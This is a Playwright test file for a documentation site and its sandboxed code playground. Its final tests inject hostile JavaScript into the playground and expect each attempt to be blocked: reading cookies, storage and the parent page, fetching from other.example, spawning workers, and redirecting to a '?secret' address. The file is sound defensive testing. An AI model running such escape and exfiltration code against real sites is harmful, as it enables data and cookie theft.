import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, extname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';
import { chromium, type Browser, type BrowserContextOptions, type Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { chromiumArguments, findChromium } from '../../scripts/browser.mjs';

const folder = fileURLToPath(new URL('../../docs-site/', import.meta.url));
const axe = readFileSync(fileURLToPath(import.meta.resolve('axe-core/axe.min.js')), 'utf8');
/** The site works under any path. */
const prefix = '/any/path';
const types: Readonly<Record<string, string>> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.json': 'application/json',
  '.wasm': 'application/wasm',
};

/** A static host that compresses, without any headers of its own. */
function serveSite(): Promise<Server> {
  const compressed = new Map<string, Buffer>();
  const server = createServer(({ url = '' }, response) => {
    const { pathname } = new URL(url, 'http://host');
    const path = join(folder, decodeURIComponent(pathname.slice(prefix.length)));
    if (!pathname.startsWith(`${prefix}/`) || !existsSync(path)) return void response.writeHead(404).end();
    const type = types[extname(path)] ?? 'application/octet-stream';
    response.writeHead(200, { 'Content-Type': type, 'Content-Encoding': 'gzip' });
    const body = compressed.get(path) ?? gzipSync(readFileSync(path));
    compressed.set(path, body);
    return void response.end(body);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

let server: Server;
let browser: Browser;
let at: (path: string) => string;

beforeAll(async () => {
  server = await serveSite();
  at = (path) => `http://127.0.0.1:${(server.address() as AddressInfo).port}${prefix}/${path}`;
  const executablePath = await findChromium();
  browser = await chromium.launch({ ...(executablePath && { executablePath }), args: chromiumArguments });
});
afterEach(() => Promise.all(browser.contexts().map((context) => context.close())));
afterAll(async () => {
  await browser.close();
  server.close();
});

/** @returns a page, and the addresses that it has requested */
async function open(path: string, options: BrowserContextOptions = {}): Promise<{ page: Page; requests: string[] }> {
  const context = await browser.newContext(options);
  context.setDefaultTimeout(90_000);
  const page = await context.newPage();
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  await page.goto(at(path));
  return { page, requests };
}

const pages = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.html'));

type Element = DefaultTreeAdapterTypes.Element;

function elementsIn(node: DefaultTreeAdapterTypes.Node): Element[] {
  const children = 'childNodes' in node ? node.childNodes : [];
  return ['tagName' in node ? [node] : [], ...children.map(elementsIn)].flat();
}
const attributeOf = ({ attrs }: Element, name: string) => attrs.find((each) => each.name === name)?.value;

it('has only links that lead to pages and headings of the site', () => {
  const all = new Map(pages.map((path) => [path, elementsIn(parse(readFileSync(join(folder, path), 'utf8')))]));
  const ids = new Map(Array.from(all, ([path, each]) => [path, new Set(each.map((one) => attributeOf(one, 'id')))]));
  const isDead = (path: string, link: string) => {
    const [file = '', fragment] = link.split('#');
    const target = file ? join(dirname(path), file) : path;
    if (!existsSync(join(folder, target))) return true;
    return fragment !== undefined && !ids.get(target)?.has(decodeURIComponent(fragment));
  };
  const links = Array.from(all).flatMap(([path, each]) =>
    each.flatMap((one) => {
      const link = attributeOf(one, 'href') ?? attributeOf(one, 'src');
      return link && !/^[a-z]+:/.test(link) ? [[path, link] as const] : [];
    }),
  );
  expect(links.length).toBeGreaterThan(3000);
  expect(links.filter(([path, link]) => isDead(path, link))).toEqual([]);
});

it('has the keys of each element on its page', () => {
  const keys = pages
    .filter((path) => /^elements\/\w+-[\w-]+\.html$/.test(path))
    .map((path) => readFileSync(join(folder, path), 'utf8').split('id="keyboard"')[1] ?? '')
    .map((section) => /<tbody>(.*?)<\/tbody>/s.exec(section)?.[1] ?? '');
  expect(keys.length).toBeGreaterThan(10);
  for (const row of keys) expect(row).toContain('<kbd>');
  expect(new Set(keys).size).toBe(keys.length);
});

it('transfers at most 150 kB for the first page, from the site only', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const devtools = await context.newCDPSession(page);
  let transferred = 0;
  devtools.on('Network.loadingFinished', ({ encodedDataLength }) => (transferred += encodedDataLength));
  await devtools.send('Network.enable');
  await page.goto(at('index.html'), { waitUntil: 'networkidle' });
  expect(transferred).toBeGreaterThan(5_000);
  expect(transferred).toBeLessThan(150_000);
});

it('is readable and navigable without script', async () => {
  const { page } = await open('index.html', { javaScriptEnabled: false });
  await page.getByRole('navigation', { name: 'Contents' }).getByText('Reference').click();
  await page.getByRole('link', { name: 'The SDK' }).first().click();
  await page.getByRole('heading', { level: 1, name: 'The SDK' }).waitFor();
});

it('searches offline', async () => {
  const { page, requests } = await open('elements/service-sign-in.html');
  const loaded = page.waitForResponse(/search\.json$/);
  await page.getByRole('searchbox').focus();
  await (await loaded).finished();
  await expect.poll(() => requests.some((url) => url.includes('/assets/es-'))).toBe(true);
  await page.waitForLoadState('networkidle');
  await page.context().setOffline(true);
  await page.getByRole('searchbox').fill('dialog sign');
  const link = page.getByRole('search').getByRole('link', { name: 'Sign-in in a dialog' });
  await link.waitFor();
  expect(await link.getAttribute('href')).toBe('../recipes.html#sign-in-in-a-dialog');
  expect(requests.filter((url) => !url.startsWith(at('')))).toEqual([]);
});

describe.each(['light', 'dark'] as const)('in %s', (colorScheme) => {
  it.each(['index.html', 'elements/resource-viewer.html', 'playground.html', 'operating.html', 'changelog.html'])(
    '%s has no violation of axe',
    async (path) => {
      const { page } = await open(path, { colorScheme });
      await page.evaluate(axe);
      const violations = await page.evaluate(async () => {
        const { axe: checker } = globalThis as unknown as { axe: typeof import('axe-core') };
        const { violations: found } = await checker.run();
        return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
      });
      expect(violations).toEqual([]);
    },
  );
});

describe('the playground', () => {
  const code = (page: Page) => page.getByRole('textbox', { name: 'Code of the page' });
  const status = (page: Page) => page.locator('[data-part=status]');
  const result = (page: Page) => page.frameLocator('iframe[title=Result]');
  const press = (page: Page, name: string) => page.getByRole('button', { name }).click();
  /** A page that shows the results of functions, or the names of their errors, as JSON. */
  const pageOf = (functions: Readonly<Record<string, string>>) =>
    `<title>x</title><body><p id="out"></p><script>(async () => {
      const results = {};
      for (const [name, run] of Object.entries({ ${Object.entries(functions)
        .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
        .join()} })) {
        try { results[name] = String(await run()); } catch (error) { results[name] = error.name; }
      }
      document.querySelector('#out').textContent = JSON.stringify(results);
    })();</script>`;

  /** Serves another site to any page. @returns the addresses that reached it */
  async function reachable(page: Page): Promise<string[]> {
    const reached: string[] = [];
    await page.context().route('https://other.example/**', async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ body: 'reached', headers: { 'Access-Control-Allow-Origin': '*' } });
    });
    return reached;
  }

  it('runs the elements against a platform in the page', async () => {
    const { page, requests } = await open('playground.html');
    await press(page, 'Run');
    await result(page).getByRole('link', { name: 'Welcome.md' }).waitFor();
    expect(requests.filter((url) => /^https?:/.test(url) && !url.startsWith(at('')))).toEqual([]);
  });

  const elements = pages.flatMap((path) => /^elements\/(\w+-[\w-]+)\.html$/.exec(path)?.[1] ?? []);

  it.each(elements)('shows %s in the example on its page', async (tag) => {
    const { page } = await open(`elements/${tag}.html`);
    const errors: string[] = [];
    page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));
    await press(page, 'Run');
    await status(page).getByText('Running').waitFor();
    await result(page).locator(`${tag} :is(button, input, h2)`).filter({ visible: true }).first().waitFor();
    expect(errors).toEqual([]);
  });

  it('signs in by the code of an e-mail that is shown below', async () => {
    const { page } = await open('elements/service-sign-in.html');
    await press(page, 'Run');
    await result(page).getByRole('textbox', { name: 'Email' }).fill('astrid@lindholm.example');
    await page.keyboard.press('Enter');
    const mail = page.locator('[data-part=mails] pre');
    await mail.waitFor({ state: 'attached' });
    const digits = /\b(\d{3})\s?(\d{3})\b/
      .exec((await mail.textContent())!)!
      .slice(1)
      .join('');
    await result(page).getByRole('textbox', { name: 'Code' }).pressSequentially(digits);
    await result(page).locator('service-sign-in:state(signed-in)').waitFor();
  });

  it('shows the code of an address, and runs it only when Run is pressed', async () => {
    const { page } = await open('playground.html', { permissions: ['clipboard-read', 'clipboard-write'] });
    await code(page).fill(pageOf({ run: "return 'it runs'" }));
    await press(page, 'Copy link');
    await status(page).getByText('Link copied.').waitFor();
    const address = page.url();
    expect(address).toContain('#code=');
    const other = await page.context().newPage();
    await other.goto(address);
    await status(other).getByText('Read it before you run it.').waitFor();
    expect(await code(other).inputValue()).toContain('it runs');
    expect(await other.locator('iframe').count()).toBe(0);
    await press(other, 'Run');
    await result(other).getByText('it runs').waitFor();
  });

  it.each([
    ['cut', (address: string) => address.slice(0, -9)],
    ['changed', (address: string) => `${address.slice(0, -30)}AAAA${address.slice(-26)}`],
    ['other', (address: string) => address.replace(/#.*/, '#code=%3Cscript%3E')],
  ])('shows no code of a %s address', async (_kind, change) => {
    const { page } = await open('playground.html');
    await press(page, 'Copy link');
    await expect.poll(() => page.url()).toContain('#code=');
    const other = await page.context().newPage();
    await other.goto(change(page.url()));
    await status(other).getByText('The address is incomplete or was changed').waitFor();
    expect(await code(other).inputValue()).toBe('');
    expect(await other.locator('iframe').count()).toBe(0);
  });

  it('imports the modules that the docs name, and takes a theme and a language of the tag', async () => {
    const { page, requests } = await open('playground.html');
    await code(page).fill(`<!doctype html>
      <script type="module" src="https://platform.example/cdn/service-widgets.js" data-theme="github" data-locale="fi"></script>
      <service-sign-in></service-sign-in>
      <service-schema-form></service-schema-form>
      <service-dashboard></service-dashboard>
      <p id="out"></p>
      <script type="module">
        import { addLanguage, createClient } from 'https://platform.example/cdn/index.js';
        import { registerWidgets, widgets } from 'https://platform.example/cdn/manifest.js';
        import { registerWidgets as same } from '@service/widgets/manifest';
        import { registerRenderer } from '@service/widgets/elements/resource-viewer';
        import { registerFieldWidget } from '@service/widgets/elements/schema-form';
        import { html } from 'lit';
        addLanguage('fi', { schemaForm: { submit: 'Jatka' } });
        registerRenderer('text/calendar', () => () => ({ styles: [], show() {}, render: () => '' }));
        registerFieldWidget('rating', () => html\`<b>A rating</b>\`);
        customElements.define('acme-link', class extends HTMLElement { connectedCallback() { this.textContent = 'A link'; } });
        registerWidgets({ id: '@acme/links/form/link', element: 'acme-link', import: () => Promise.resolve(), title: { en: 'Link' } });
        document.querySelector('service-schema-form').schema = {
          type: 'object', properties: { stars: { type: 'integer', 'x-service-hints': { field: 'rating' } } },
        };
        document.querySelector('service-dashboard').layout = {
          schemaVersion: 1,
          widgets: [{
            instanceId: 'link', widgetId: '@acme/links/form/link', configVersion: 1, config: {},
            layout: { wide: { x: 0, y: 0, w: 12, h: 2 } }, visibility: 'always', inputs: {},
          }],
        };
        const { status } = await fetch('https://platform.example/healthz');
        const radius = getComputedStyle(document.documentElement).getPropertyValue('--service-radius-large');
        document.querySelector('#out').textContent = [status, radius, same === registerWidgets].join();
      </script>`);
    await press(page, 'Run');
    await result(page).getByText('200,6px,true').waitFor();
    await result(page).getByRole('button', { name: 'Jatka' }).waitFor();
    await result(page).getByText('A rating').waitFor();
    // Widgets load near the viewport.
    await result(page).locator('service-dashboard').scrollIntoViewIfNeeded();
    await result(page).getByText('A link').waitFor();
    expect(requests.filter((url) => /^https?:/.test(url) && !url.startsWith(at('')))).toEqual([]);
  });

  it('replaces the style sheet of a theme by its text', async () => {
    const { page } = await open('playground.html');
    await code(page).fill(`<link rel="stylesheet" href="https://platform.example/cdn/themes/playful.css">
      <p style="border-radius: var(--service-radius-large)">Round</p>`);
    await press(page, 'Run');
    const paragraph = result(page).getByText('Round');
    await paragraph.waitFor();
    expect(await paragraph.evaluate((element) => getComputedStyle(element).borderRadius)).toMatch(/^[1-9]/);
  });

  it('keeps hostile code from the page around it, storage, windows, the network, workers and other pages', async () => {
    const attempts = {
      'page around': ['return parent.document.title', 'SecurityError'],
      storage: ['return localStorage.length', 'SecurityError'],
      cookies: ['return document.cookie', 'SecurityError'],
      origin: ['return origin', 'null'],
      windows: ['return open("about:blank")', 'null'],
      fetch: ['return (await fetch("https://other.example/")).status', 'TypeError'],
      'requests around the replaced fetch': [
        'return new Promise((resolve) => { const r = new XMLHttpRequest(); r.onerror = () => resolve("refused"); r.open("GET", "https://other.example/"); r.send(); })',
        'refused',
      ],
      workers: [
        'return new Promise((resolve) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = () => resolve("started"); w.onerror = () => resolve("refused"); })',
        'refused',
      ],
      'workers of blobs': [
        'return new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => resolve("started"); w.onerror = () => resolve("refused"); })',
        'refused',
      ],
      'modules of other hosts': ['return await import("https://other.example/module.js")', 'TypeError'],
      'modules in modules': [
        'return await import(`data:text/javascript,${encodeURIComponent(\'import "https://other.example/module.js"\')}`)',
        'TypeError',
      ],
      'another page at the top': ['top.location.href = "https://other.example/"', 'SecurityError'],
    } as const;
    const column = (index: 0 | 1) =>
      Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => [name, attempt[index]]));
    const { page } = await open('playground.html');
    const reached = await reachable(page);
    await code(page).fill(pageOf(column(0)));
    await press(page, 'Run');
    const out = result(page).locator('#out:not(:empty)');
    await out.waitFor();
    expect(JSON.parse((await out.textContent())!)).toEqual(column(1));
    expect(page.url()).toBe(at('playground.html'));
    expect(reached).toEqual([]);
  });

  it('cannot leave for another page in the frame', async () => {
    const { page } = await open('playground.html');
    const reached = await reachable(page);
    const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
    await code(page).fill('<script>location.href = "https://other.example/?secret";</script>');
    await press(page, 'Run');
    await refusal;
    expect(reached).toEqual([]);
  });
});
